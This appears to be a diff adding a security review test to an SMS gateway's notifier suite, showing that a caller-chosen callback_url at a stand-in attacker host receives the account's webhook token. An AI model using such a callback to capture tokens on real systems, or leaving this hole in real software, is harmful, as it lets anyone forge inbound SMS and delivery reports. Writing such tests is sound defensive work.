@@ -574,3 +574,43 @@ def test_a_blackholed_origin_fails_its_sixth_notification_at_once_while_another_
     )
     assert record.next_attempt_at is not None
     assert record_of(b, "dlr_7_3") is None
+
+
+# ---------------------------------------------------------------- review (session 31, rnotify)
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="review: a send's callback_url, chosen by any API caller, receives the account's sealed webhook token",
+)
+def test_a_batch_callback_url_chosen_by_the_caller_never_receives_the_accounts_webhook_token(aws, accounts, webhook):
+    from sms_gateway.bootstrap import gateway
+    from sms_gateway.domain.models import StatusChange
+    from sms_gateway.logic.notify import dlr_notification
+
+    # Given an account whose webhook token is sealed, shown once at creation, and never readable again
+    account = accounts["a"]
+    hook = webhook()
+    # When anyone holding one of its API tokens sends a batch with delivery reports to a URL of their own
+    status, answer = api(
+        "POST",
+        "/ng/v1/sendsms",
+        account["token"],
+        body={
+            "from": "48974",
+            "to": ["2348020000000"],
+            "body": "hi",
+            "delivery_report": "yes",
+            "callback_url": "https://collector.attacker.example/dlr",
+        },
+    )
+    assert status == 200, answer
+    [message] = gateway().store.list_messages(account["account_id"], int(answer["reference_id"]))[0]
+    # And a status change of its message is reported
+    publish(dlr_notification(StatusChange(message=message, changed=True)))
+    run_notifier(aws)
+    # Then that URL got the report, but not the account's webhook token (which authenticates the gateway to the
+    # client's real webhooks: with it, anyone can forge inbound SMS and delivery reports to them)
+    [post] = hook.posts
+    assert post["url"] == "https://collector.attacker.example/dlr"
+    assert account["webhook_token"] not in post["headers"].get("Authorization", "")
